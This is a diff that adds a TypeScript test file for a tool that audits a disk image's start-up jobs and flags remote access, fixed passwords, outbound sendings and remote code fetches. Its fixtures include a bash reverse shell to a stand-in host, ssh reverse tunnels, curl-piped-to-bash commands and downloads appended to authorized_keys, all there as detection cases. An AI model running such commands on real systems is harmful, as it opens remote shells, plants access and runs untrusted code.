@@ -1,0 +1,535 @@
+import test from 'ava';
+import type {RootFile} from '../../../src/contract.ts';
+import type {Startup} from '../../../src/evidence/startup.ts';
+import {boots, debian, enabled, unit} from '../../../src/examples.ts';
+import {type FileSystem, textAt} from '../../../src/filesystem.ts';
+import {startupOf} from '../../../src/gather/root/startup.ts';
+import {systemOf} from '../../helpers/filesystem.ts';
+
+type Files = Readonly<Record<string, RootFile>>;
+
+function startup(files: Files): Startup & {readonly system: FileSystem} {
+	const system = systemOf(files);
+	const found = startupOf(system);
+	if (found === undefined) throw new Error('no /etc');
+	return {...found, system};
+}
+
+/** The jobs of larkspur in one line each: name, trigger, why not. */
+function jobs(files: Files): readonly string[] {
+	return startup(files)
+		.jobs.filter(({name}) => name.includes('larkspur'))
+		.map(({name, trigger, off, waitsFor}) => [name, off ?? trigger, ...(waitsFor === undefined ? [] : [`waits for ${waitsFor}`])].join(' '));
+}
+
+const starts = test.macro({
+	exec(t, files: Files, expected: readonly string[]) {
+		t.deepEqual(jobs(files), expected);
+	},
+	title: (given = '') => `starts: ${given}`,
+});
+const service = unit('ExecStart=/opt/larkspur/server');
+const path = 'etc/systemd/system/larkspur.service';
+const script = {text: '#!/bin/sh\ntrue\n', mode: 0o755};
+
+test('an enabled unit', starts, enabled('larkspur.service', service), ['larkspur.service boot']);
+test('a unit without a link', starts, debian({[path]: service}), ['larkspur.service not-enabled']);
+test('a masked unit', starts, enabled('larkspur.service', '', {[path]: {link: '/dev/null'}, 'usr/lib/systemd/system/larkspur.service': service}), [
+	'larkspur.service masked',
+]);
+test("an empty unit masks the vendor's", starts, enabled('larkspur.service', '', {'usr/lib/systemd/system/larkspur.service': service}), [
+	'larkspur.service masked',
+]);
+test('a required unit', starts, debian({[path]: service, 'etc/systemd/system/sysinit.target.requires/larkspur.service': {link: path}}), [
+	'larkspur.service boot',
+]);
+test('a unit that a started one wants', starts, enabled('other.service', unit('ExecStart=/bin/true', 'Wants=larkspur.service\n'), {[path]: service}), [
+	'larkspur.service boot',
+]);
+test(
+	'a unit that a stopped one wants',
+	starts,
+	debian({'etc/systemd/system/other.service': unit('ExecStart=/bin/true', 'Wants=larkspur.service\n'), [path]: service}),
+	['larkspur.service not-enabled'],
+);
+test('a target that nobody reaches', starts, debian({[path]: service, 'etc/systemd/system/rescue.target.wants/larkspur.service': {link: path}}), [
+	'larkspur.service not-enabled',
+]);
+test(
+	'the graphical target of a server that does not go there',
+	starts,
+	debian({
+		[path]: service,
+		'etc/systemd/system/graphical.target.wants/larkspur.service': {link: path},
+		'etc/systemd/system/default.target': {link: '/usr/lib/systemd/system/multi-user.target'},
+		'usr/lib/systemd/system/multi-user.target': '[Unit]\n',
+	}),
+	['larkspur.service not-enabled'],
+);
+test('a timer', starts, enabled('larkspur.timer', '[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n', {[path]: service}), [
+	'larkspur.service schedule',
+	'larkspur.timer boot',
+]);
+test('a timer that is not enabled', starts, debian({'etc/systemd/system/larkspur.timer': '[Timer]\nOnCalendar=daily\n', [path]: service}), [
+	'larkspur.service not-enabled',
+	'larkspur.timer not-enabled',
+]);
+test(
+	'a socket',
+	starts,
+	debian({
+		'etc/systemd/system/a.socket': '[Socket]\nListenStream=80\nService=larkspur.service\n',
+		'etc/systemd/system/sockets.target.wants/a.socket': {link: '/x'},
+		[path]: service,
+	}),
+	['larkspur.service event'],
+);
+test(
+	'an instance of a template',
+	starts,
+	debian({'etc/systemd/system/larkspur@.service': unit('ExecStart=/bin/true'), 'etc/systemd/system/multi-user.target.wants/larkspur@a.service': {link: '/x'}}),
+	['larkspur@.service not-enabled', 'larkspur@a.service boot'],
+);
+test('a condition on a file that is not there', starts, enabled('larkspur.service', unit('ExecStart=/bin/true', 'ConditionPathExists=/etc/larkspur/on\n')), [
+	'larkspur.service boot waits for /etc/larkspur/on',
+]);
+test(
+	'a condition on a file that is there',
+	starts,
+	enabled('larkspur.service', unit('ExecStart=/bin/true', 'ConditionPathExists=/etc/larkspur/on\n'), {'etc/larkspur/on': 'x'}),
+	['larkspur.service boot'],
+);
+test('a condition on what comes while it runs', starts, enabled('larkspur.service', unit('ExecStart=/bin/true', 'ConditionPathExists=/run/larkspur\n')), [
+	'larkspur.service boot',
+]);
+test(
+	'one of two conditions is enough',
+	starts,
+	enabled('larkspur.service', unit('ExecStart=/bin/true', 'ConditionPathExists=|/etc/a\nConditionPathExists=|/etc/passwd\n')),
+	['larkspur.service boot'],
+);
+test('a unit that a script starts', starts, boots('systemctl start larkspur-worker', {'etc/systemd/system/larkspur-worker.service': service}), [
+	'larkspur-worker.service not-enabled',
+	'larkspur.service boot',
+	'larkspur-worker.service boot',
+]);
+test('presets of a first boot', starts, debian({[path]: service, 'etc/machine-id': 'uninitialized\n', 'usr/lib/systemd/system/x.target': ''}), [
+	'larkspur.service boot',
+]);
+test(
+	'a preset that disables',
+	starts,
+	debian({
+		[path]: service,
+		'etc/machine-id': 'uninitialized\n',
+		'usr/lib/systemd/system/x.target': '',
+		'usr/lib/systemd/system-preset/99-default-disable.preset': 'disable *\n',
+	}),
+	['larkspur.service not-enabled'],
+);
+test(
+	'a preset that enables before another disables',
+	starts,
+	debian({
+		[path]: service,
+		'etc/machine-id': undefined,
+		'usr/lib/systemd/system/x.target': '',
+		'etc/systemd/system-preset/10-larkspur.preset': 'enable lark*.service\n',
+		'usr/lib/systemd/system-preset/99-default-disable.preset': 'disable *\n',
+	}),
+	['larkspur.service boot'],
+);
+test('an init script', starts, debian({'etc/init.d/larkspur': script, 'etc/rc3.d/S20larkspur': {link: '../init.d/larkspur'}}), ['/etc/init.d/larkspur boot']);
+test('an init script that is killed', starts, debian({'etc/init.d/larkspur': script, 'etc/rc3.d/K20larkspur': {link: '../init.d/larkspur'}}), []);
+test(
+	'an init script for which there is a unit',
+	starts,
+	debian({[path]: service, 'etc/init.d/larkspur': script, 'etc/rc3.d/S20larkspur': {link: '../init.d/larkspur'}}),
+	['larkspur.service not-enabled'],
+);
+test(
+	'crontabs',
+	starts,
+	debian({
+		'etc/crontab': 'SHELL=/bin/sh\n# 1 2 3 4 5 root a\n17 * * * * root larkspur\n',
+		'etc/cron.d/larkspur': '@reboot root x\n',
+		'etc/cron.d/larkspur.bak': '@reboot root x\n',
+		'var/spool/cron/crontabs/larkspur': '*/5 * * * * x\n',
+	}),
+	['/etc/cron.d/larkspur boot', '/etc/cron.d/larkspur.bak bad-name', '/var/spool/cron/crontabs/larkspur schedule'],
+);
+test(
+	'crontabs that nobody reads',
+	starts,
+	debian({'etc/cron.d/larkspur': '@reboot root x\n', 'usr/lib/systemd/system/cron.service': unit('ExecStart=/usr/sbin/cron')}),
+	['/etc/cron.d/larkspur switched-off'],
+);
+test(
+	'daily scripts',
+	starts,
+	debian({'etc/cron.daily/larkspur': script, 'etc/cron.daily/larkspur.sh': script, 'etc/cron.daily/larkspur-text': '#!/bin/sh\n'}),
+	['/etc/cron.daily/larkspur schedule', '/etc/cron.daily/larkspur-text not-executable', '/etc/cron.daily/larkspur.sh bad-name'],
+);
+test('scripts of cloud-init', starts, debian({'var/lib/cloud/scripts/per-instance/larkspur.sh': script}), [
+	'/var/lib/cloud/scripts/per-instance/larkspur.sh boot',
+]);
+test('cloud-init that is switched off', starts, debian({'var/lib/cloud/scripts/per-boot/larkspur.sh': script, 'etc/cloud/cloud-init.disabled': ''}), [
+	'/var/lib/cloud/scripts/per-boot/larkspur.sh switched-off',
+]);
+test(
+	'OpenRC',
+	starts,
+	debian({
+		'etc/init.d/larkspur': '#!/sbin/openrc-run\ncommand=/opt/larkspur/server\n',
+		'etc/runlevels/default/larkspur': {link: '/etc/init.d/larkspur'},
+	}),
+	['/etc/init.d/larkspur boot'],
+);
+test(
+	'supervisor',
+	starts,
+	debian({'etc/supervisor/conf.d/x.conf': '[program:larkspur]\ncommand=/opt/larkspur/server\n[program:larkspur-b]\nautostart=false\ncommand=b\n'}),
+	['supervisor larkspur boot', 'supervisor larkspur-b not-enabled'],
+);
+test(
+	'units of a user who lingers',
+	starts,
+	debian({
+		'home/admin/.config/systemd/user/larkspur.service': unit('ExecStart=/bin/true'),
+		'home/admin/.config/systemd/user/default.target.wants/larkspur.service': {link: '/x'},
+		'var/lib/systemd/linger/admin': '',
+	}),
+	['larkspur.service boot'],
+);
+
+/** What of one list is found, with the source text that it points at. */
+function found(
+	files: Files,
+	key: 'remoteAccess' | 'addedAccess' | 'sendings' | 'telemetry' | 'passwords' | 'printedPasswords' | 'userDataNeeds' | 'fetches' | 'timeLimits',
+) {
+	const {system, ...all} = startup(files);
+	return all[key].map((item) => {
+		const {file, range} = item.place;
+		const text = textAt(system, file.slice('image/'.length))?.value ?? '';
+		const at = range === undefined ? '' : text.slice(...range);
+		const what = ['agent', 'bound', 'source', 'to', 'product', 'of', 'origin', 'path', 'how', 'what', 'value'].flatMap((name) =>
+			name in item ? String(item[name as keyof typeof item]) : [],
+		);
+		return `${what.join(' ')} @ ${at}`;
+	});
+}
+
+const finds = test.macro({
+	exec(t, key: Parameters<typeof found>[1], files: Files, expected: readonly string[]) {
+		t.deepEqual(found(files, key), expected);
+	},
+	title: (given = '') => `finds: ${given}`,
+});
+
+test(
+	'a drop-in that replaces the command',
+	finds,
+	'passwords',
+	enabled('larkspur.service', unit('ExecStart=/opt/a'), {
+		'opt/a': "#!/bin/sh\necho 'admin:one' | chpasswd\n",
+		'opt/b': "#!/bin/sh\necho 'admin:two' | chpasswd\n",
+		'etc/systemd/system/larkspur.service.d/50-b.conf': '[Service]\nExecStart=\nExecStart=/opt/b\n',
+	}),
+	['account admin fixed @ two'],
+);
+test(
+	'a drop-in that is masked',
+	finds,
+	'passwords',
+	enabled('larkspur.service', unit('ExecStart=/opt/a'), {
+		'opt/a': "#!/bin/sh\necho 'admin:one' | chpasswd\n",
+		'usr/lib/systemd/system/larkspur.service.d/50-b.conf': '[Service]\nExecStart=\n',
+		'etc/systemd/system/larkspur.service.d/50-b.conf': {link: '/dev/null'},
+	}),
+	['account admin fixed @ one'],
+);
+test(
+	'a variable of an environment file',
+	finds,
+	'passwords',
+	enabled('larkspur.service', unit('EnvironmentFile=-/etc/default/larkspur\nExecStart=/opt/a'), {
+		'etc/default/larkspur': 'WORD="one two"\n',
+		'opt/a': '#!/bin/sh\necho "admin:$WORD" | chpasswd\n',
+	}),
+	['account admin fixed @ one two'],
+);
+test(
+	'the instance of a template',
+	finds,
+	'remoteAccess',
+	debian({
+		'etc/systemd/system/tunnel@.service': unit('ExecStart=/usr/bin/ssh -NR 22:localhost:22 %i'),
+		'etc/systemd/system/multi-user.target.wants/tunnel@relay.larkspur-queue.com.service': {link: '/x'},
+	}),
+	['ssh -R relay.larkspur-queue.com @ %i'],
+);
+test(
+	'a tunnel of an ssh configuration',
+	finds,
+	'remoteAccess',
+	enabled('t.service', unit('ExecStart=/usr/bin/autossh -M 0 -N relay'), {
+		'root/.ssh/config': 'Host relay\n  HostName relay.larkspur-queue.com\n  RemoteForward 2222 localhost:22\n',
+	}),
+	['autossh with RemoteForward relay.larkspur-queue.com @   RemoteForward 2222 localhost:22'],
+);
+test("a tunnel to a host of one's own network", finds, 'remoteAccess', boots('ssh -N -R 2222:localhost:22 admin@10.0.0.5'), []);
+test('a shell handed out', finds, 'remoteAccess', boots("bash -c 'bash -i >& /dev/tcp/relay.larkspur-queue.com/443 0>&1'"), [
+	'a shell of bash relay.larkspur-queue.com @ bash -i >& /dev/tcp/relay.larkspur-queue.com/443 0>&1',
+]);
+test(
+	'an agent of an account of the seller',
+	finds,
+	'remoteAccess',
+	enabled('amazon-ssm-agent.service', unit('ExecStart=/usr/bin/amazon-ssm-agent'), {
+		'var/lib/amazon/ssm/registration': '{"ManagedInstanceID":"mi-0123456789abcdef0","Region":"us-east-1"}',
+	}),
+	['Systems Manager hybrid activation mi-0123456789abcdef0 @ mi-0123456789abcdef0'],
+);
+test(
+	'a client of one VPN of two',
+	finds,
+	'remoteAccess',
+	debian({
+		'usr/lib/systemd/system/openvpn-client@.service': unit('ExecStart=/usr/sbin/openvpn --config %i.conf'),
+		'etc/systemd/system/multi-user.target.wants/openvpn-client@a.service': {link: '/x'},
+		'etc/openvpn/client/a.conf': 'client\nremote a.larkspur-queue.com 1194\n',
+		'etc/openvpn/client/b.conf': 'client\nremote b.larkspur-queue.com 1194\n',
+	}),
+	['OpenVPN a.larkspur-queue.com @ a.larkspur-queue.com'],
+);
+test(
+	'a network that was joined',
+	finds,
+	'remoteAccess',
+	enabled('zerotier-one.service', unit('ExecStart=/usr/sbin/zerotier-one'), {
+		'var/lib/zerotier-one/networks.d/0123456789abcdef.conf': 'x',
+	}),
+	['ZeroTier 0123456789abcdef @ '],
+);
+test(
+	'Tailscale that was logged in',
+	finds,
+	'remoteAccess',
+	enabled('tailscaled.service', unit('ExecStart=/usr/sbin/tailscaled'), {
+		'var/lib/tailscale/tailscaled.state': '{"_machinekey": "x", "_current-profile": "x", "profile-1a2b": "x"}',
+	}),
+	['Tailscale @ profile-1a2b'],
+);
+test(
+	'Tailscale that was only started',
+	finds,
+	'remoteAccess',
+	enabled('tailscaled.service', unit('ExecStart=/usr/sbin/tailscaled'), {'var/lib/tailscale/tailscaled.state': '{"_machinekey": "x", "_current-profile": ""}'}),
+	[],
+);
+test(
+	'a placeholder is no host',
+	finds,
+	'remoteAccess',
+	enabled('salt-minion.service', unit('ExecStart=/usr/bin/salt-minion'), {'etc/salt/minion': 'master: <your-master>\n'}),
+	[],
+);
+
+test(
+	'ways to set a password',
+	finds,
+	'passwords',
+	boots(
+		[
+			"chpasswd <<< 'a:one1'",
+			"printf 'two2\\ntwo2\\n' | passwd b",
+			'echo three3 | passwd --stdin c',
+			"useradd -m -p '$6$salt$hash' d",
+			"mysql -e \"ALTER USER 'root'@'localhost' IDENTIFIED BY 'four4'\"",
+			'sudo -u postgres psql -c "ALTER USER postgres PASSWORD \'five5\'"',
+			'htpasswd -bc /etc/nginx/users e six6',
+			'rabbitmqctl add_user f seven7',
+			'docker run -d -e MYSQL_ROOT_PASSWORD=eight8 mysql',
+			'larkspur-setup --admin-password=nine9',
+		].join('\n'),
+	),
+	[
+		'account a fixed @ one1',
+		'account b fixed @ two2',
+		'account c fixed @ three3',
+		'account d fixed @ $6$salt$hash',
+		'MySQL fixed @ four4',
+		'PostgreSQL fixed @ five5',
+		'web user e fixed @ six6',
+		'RabbitMQ user f fixed @ seven7',
+		'MYSQL_ROOT_PASSWORD fixed @ eight8',
+		'larkspur-setup fixed @ nine9',
+	],
+);
+test(
+	'no passwords',
+	finds,
+	'passwords',
+	boots(
+		[
+			'passwd -l a',
+			"usermod -p '!' b",
+			'mysql -e "ALTER USER root IDENTIFIED WITH auth_socket"',
+			'docker run -e DB_PASSWORD_FILE=/run/secrets/db x',
+			'larkspur --admin-password-file=/etc/x',
+			'chpasswd < /root/x',
+		].join('\n'),
+	),
+	[],
+);
+test(
+	"cloud-init's configuration, the last file",
+	finds,
+	'passwords',
+	debian({
+		'etc/cloud/cloud.cfg':
+			'password: one\nchpasswd: {expire: false}\nusers:\n  - name: a\n    lock_passwd: false\n    plain_text_passwd: two\n  - name: b\n    passwd: three\n',
+		'etc/cloud/cloud.cfg.d/99.cfg': 'password: RANDOM\nchpasswd:\n  list: |\n    c:four\n    d:RANDOM\n',
+	}),
+	['account c fixed @ four', 'account a fixed @ two'],
+);
+test(
+	"cloud-init's commands",
+	finds,
+	'passwords',
+	debian({'etc/cloud/cloud.cfg': 'runcmd:\n  - echo a:one | chpasswd\n  - [sh, -c, "echo b:two | chpasswd"]\n'}),
+	['account a fixed @ one', 'account b fixed @ two'],
+);
+test(
+	'keys',
+	finds,
+	'addedAccess',
+	boots(
+		[
+			'curl -s https://github.com/larkspur.keys | tee -a /root/.ssh/authorized_keys',
+			'wget -O /home/a/.ssh/authorized_keys https://larkspur-queue.com/k',
+			'cat /root/k >> /root/.ssh/authorized_keys',
+			'ssh-import-id gh:larkspur',
+		].join('\n'),
+	),
+	['github.com download @ https://github.com/larkspur.keys', 'larkspur-queue.com download @ https://larkspur-queue.com/k', 'gh:larkspur import @ gh:larkspur'],
+);
+test(
+	'what is sent',
+	finds,
+	'sendings',
+	boots(
+		[
+			'curl -X POST -d "host=$(hostname -f)" https://api.larkspur-queue.com/up',
+			'aws s3 cp /var/log/larkspur.log s3://larkspur-logs/',
+			'df -h | mail -s disk ops@larkspur-queue.com',
+			'aws cloudwatch put-metric-data --namespace x',
+			'curl -s https://checkip.amazonaws.com',
+			'curl -d x http://localhost:8080/',
+			'curl -d x https://example.com/',
+		].join('\n'),
+	),
+	[
+		'api.larkspur-queue.com request host name @ https://api.larkspur-queue.com/up',
+		's3://larkspur-logs upload  @ s3://larkspur-logs/',
+		'ops@larkspur-queue.com mail  @ ops@larkspur-queue.com',
+	],
+);
+test('where cron mails', finds, 'sendings', debian({'etc/cron.d/larkspur': 'MAILTO="ops@larkspur-queue.com"\n0 1 * * * root a\n0 2 * * * root b\n'}), [
+	'ops@larkspur-queue.com mail  @ ops@larkspur-queue.com',
+]);
+test(
+	"cloud-init's phone_home",
+	finds,
+	'sendings',
+	debian({'etc/cloud/cloud.cfg': 'phone_home:\n  url: https://larkspur-queue.com/$INSTANCE_ID/\n  post: all\n'}),
+	['larkspur-queue.com request instance id,host name,public host keys @ https://larkspur-queue.com/$INSTANCE_ID/'],
+);
+test(
+	'telemetry that a file switches off',
+	finds,
+	'telemetry',
+	enabled('netdata.service', unit('ExecStart=/usr/sbin/netdata'), {'etc/netdata/.opt-out-from-anonymous-statistics': ''}),
+	[],
+);
+test('telemetry that is on', finds, 'telemetry', enabled('netdata.service', unit('ExecStart=/usr/sbin/netdata')), ['Netdata @ /usr/sbin/netdata']);
+test(
+	'what is fetched',
+	finds,
+	'fetches',
+	boots(
+		[
+			'bash -c "$(curl -fsSL https://a.larkspur-queue.com/x)"',
+			'curl -sSLo /tmp/x.tgz https://b.larkspur-queue.com/x.tgz && tar xzf /tmp/x.tgz',
+			'wget https://c.larkspur-queue.com/run.sh; sh run.sh',
+			'curl -o /etc/larkspur/list https://d.larkspur-queue.com/list',
+			'git clone https://github.com/larkspur/queue /opt/queue',
+			'curl -s http://169.254.169.254/latest/user-data | bash',
+			'apt-get update',
+			'pip install --no-index /opt/wheels/a.whl',
+			'curl -s https://e.larkspur-queue.com/health > /dev/null',
+		].join('\n'),
+	),
+	[
+		'run https://a.larkspur-queue.com/x @ https://a.larkspur-queue.com/x',
+		'unpack https://b.larkspur-queue.com/x.tgz @ https://b.larkspur-queue.com/x.tgz',
+		'run https://c.larkspur-queue.com/run.sh @ https://c.larkspur-queue.com/run.sh',
+		'clone https://github.com/larkspur/queue @ https://github.com/larkspur/queue',
+		'download https://d.larkspur-queue.com/list @ https://d.larkspur-queue.com/list',
+	],
+);
+test(
+	'user data that a script can do without',
+	finds,
+	'userDataNeeds',
+	boots('D=$(curl -s http://169.254.169.254/latest/user-data)\n[ -n "$D" ] && load "$D"\nif [ -z "$X" ]; then exit 1; fi'),
+	[],
+);
+test(
+	'user data behind an operator',
+	finds,
+	'userDataNeeds',
+	boots('D=$(curl -s http://169.254.169.254/latest/user-data)\n[ -n "$D" ] || { echo none; exit 1; }'),
+	['stops @ exit 1'],
+);
+test('user data in an else', finds, 'userDataNeeds', boots('if curl -fs http://169.254.169.254/latest/user-data -o /tmp/d; then load; else exit 2; fi'), [
+	'stops @ exit 2',
+]);
+test(
+	'licences',
+	finds,
+	'timeLimits',
+	debian({
+		'opt/larkspur/larkspur.lic': 'INCREMENT queue larkspur 2.0 30-jun-2027 uncounted\nINCREMENT base larkspur 2.0 permanent uncounted\n',
+		'opt/larkspur/license.xml': '<license><type>trial</type><expiryDate>2027-01-31</expiryDate></license>\n',
+		'opt/larkspur/node_modules/x/license.json': '{"expires": "2027-01-01"}\n',
+		'usr/share/doc/x/license.txt': 'expires: 2027-01-01\n',
+	}),
+	['licence-end 30-jun-2027 @ 30-jun-2027', 'licence-end 2027-01-31 @ 2027-01-31', 'trial-licence type>trial @ trial'],
+);
+
+test('a root without /etc has no start-up', (t) => {
+	t.is(startupOf(systemOf({'usr/bin/x': 'a'})), undefined);
+});
+
+test('many units that want each other', (t) => {
+	const files: Record<string, RootFile> = {'etc/passwd': '', 'etc/systemd/system/multi-user.target.wants/u0.service': {link: '/x'}};
+	for (let index = 0; index < 600; index++)
+		files[`etc/systemd/system/u${index}.service`] = unit('ExecStart=/bin/true', `Wants=u${(index + 1) % 600}.service u${(index + 7) % 600}.service\n`);
+	t.is(startup(files).jobs.filter(({off}) => off === undefined).length, 600);
+});
+
+test('hostile files', (t) => {
+	const long = 'a'.repeat(500_000);
+	const all = startup({
+		'etc/passwd': '',
+		'etc/crontab': `${'* '.repeat(200_000)}\n* * * * * root ${long}\n${'\0'.repeat(1000)}`,
+		'etc/systemd/system/a.service': `[Service]\n${'ExecStart=\\\n'.repeat(50_000)}${' '.repeat(100_000)}=x\nEnvironment=${'"'.repeat(100_000)}`,
+		'etc/systemd/system/multi-user.target.wants/a.service': {link: '/x'},
+		'etc/systemd/system/loop.service': {link: 'loop.service'},
+		'etc/cloud/cloud.cfg': `${'['.repeat(10_000)}`,
+		'opt/x/license.json': `${'expires '.repeat(10_000)}`,
+		'etc/rsyslog.conf': `${' '.repeat(300_000)}@@${long}`,
+	});
+	t.true(all.jobs.length > 0);
+});
